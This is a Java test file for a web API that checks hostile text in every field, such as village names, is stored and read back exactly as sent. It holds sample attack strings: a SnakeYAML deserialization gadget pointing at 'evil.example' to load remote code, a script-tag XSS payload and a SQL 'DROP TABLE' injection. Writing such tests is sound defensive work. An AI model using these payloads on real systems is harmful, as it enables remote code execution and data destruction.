package org.jifen.api.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Hostile input, injection and text: SQL-injection, script and template strings, emoji and CJK,
 * control characters, empty and null strings in every text field.
 */
class InjectionAndTextTest extends HostileInputBase {

    @TestFactory
    Stream<DynamicTest> corpus() {
        Fixture fixture = new Fixture();
        List<Hostile> corpus = new ArrayList<>();
        for (Target target : fixture.targets()) {
            corpus.addAll(strings(target));
        }
        return run(corpus, 500);
    }

    /** Strings in every text field: rejected by a format, or stored as given. */
    private List<Hostile> strings(Target t) {
        List<Hostile> cases = new ArrayList<>();
        JsonNodeFactory n = JsonNodeFactory.instance;
        // SQL injection, script and template strings in every text field: rejected by a format, or stored as given
        for (String field : t.text()) {
            for (String injection : lines("injections.txt")) {
                cases.add(json(t, "injection in " + field + ": " + injection, with(t.body().get(), field,
                        n.textNode(injection)).toString(), Expect.EITHER));
            }
            for (String unicode : lines("unicode.txt")) {
                cases.add(json(t, "unicode in " + field + ": " + unicode, with(t.body().get(), field,
                        n.textNode(unicode)).toString(), Expect.EITHER));
            }
            cases.add(json(t, "control characters in " + field, with(t.body().get(), field,
                    n.textNode("a\u0000b\u0007c\u001b[31m\r\nd")).toString(), Expect.EITHER));
            cases.add(json(t, "empty " + field, with(t.body().get(), field, n.textNode("")).toString(), Expect.EITHER));
            cases.add(json(t, "null " + field, with(t.body().get(), field, n.nullNode()).toString(), Expect.EITHER));
        }
        return cases;
    }

    @Test
    void hostileTextIsStoredAndShownExactlyAsSent() {
        String village = publishedVillage("hz-text");
        for (String name : List.of("!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
                "<script>alert(1)</script>", "'; DROP TABLE ledger; --", "*anchor &anchor <<: *anchor",
                "檀阴社区 👨‍🌾", "a: b # c")) {
            Response renamed = put(villagePath(village), Map.of("name", name, "author", "张三"));
            assertThat(renamed.status()).as(renamed.raw()).isEqualTo(200);
            assertThat(renamed.body().path("name").asText()).isEqualTo(name);
            assertThat(get(villagePath(village)).body().path("name").asText()).isEqualTo(name);
            // the published village.yaml reads back as the same name, not as a YAML tag or alias
            String yaml = get(policy(village)).body().path("version").isMissingNode() ? null
                    : get(policy(village) + "/versions/" + get(policy(village)).body().path("version").asInt())
                            .body().path("contents").path("village.yaml").asText();
            assertThat(yaml).isNotNull();
            Object parsed = new org.yaml.snakeyaml.Yaml(new org.yaml.snakeyaml.constructor.SafeConstructor(
                    new org.yaml.snakeyaml.LoaderOptions())).<Map<String, Object>>load(yaml).get("name");
            assertThat(parsed).isEqualTo(name);
        }
    }
}
